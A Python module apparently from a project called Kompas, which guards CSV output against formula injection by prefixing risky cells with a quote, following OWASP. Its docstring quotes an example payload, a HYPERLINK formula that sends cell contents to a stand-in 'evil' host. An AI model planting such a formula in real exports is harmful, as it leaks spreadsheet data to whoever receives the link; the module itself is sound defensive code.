"""Spreadsheet-safe CSV: every CSV file Kompas writes goes through :func:`writer` or :func:`safe_cell`.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by spreadsheet programs as a
formula (CSV or formula injection: ``=HYPERLINK("http://evil/?"&A1,"click")`` in a contributed input name would
leak the sheet or run a command when the file is opened). Following OWASP, such a cell is written with a leading
``'`` so that it is shown as the text it is; numbers stay numbers (``-1.5`` as a float or as text is not a
formula and is written unchanged).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  #: First characters spreadsheets read as a formula (OWASP).
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


#: A formula start right after a ``;`` (the separator of spreadsheets in many EU locales, which split an unquoted
#: ``a;=HYPERLINK(...)`` into two cells) or a line break.
_INNER_FORMULA = re.compile(r"([;\r\n])([=+\-@\t\r])")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs: text starting with one of :data:`FORMULA_START` gets a
    leading ``'``, unless it is a plain number (``-3``, ``-1.5e-3``), and so does each part after a ``;`` or a line
    break that starts like a formula; anything not text is returned unchanged."""
    if not isinstance(value, str):
        return value
    if any(c in value for c in ";\r\n"):
        value = _INNER_FORMULA.sub(r"\1'\2", value)
    if value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Each cell of ``row`` through :func:`safe_cell`."""
    return [safe_cell(v) for v in row]


class SafeWriter:
    """A ``csv.writer`` whose rows pass through :func:`safe_row` (same ``writerow``/``writerows``)."""

    def __init__(self, handle: SupportsWrite[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """A ``csv.DictWriter`` whose values pass through :func:`safe_cell` (the header is written as given)."""

    def writerow(self, rowdict: Any) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Any]) -> None:
        for row in rowdicts:
            self.writerow(row)


def writer(handle: SupportsWrite[str], **options: Any) -> SafeWriter:
    """A spreadsheet-safe ``csv.writer`` on ``handle`` (``options`` as for ``csv.writer``)."""
    return SafeWriter(handle, **options)
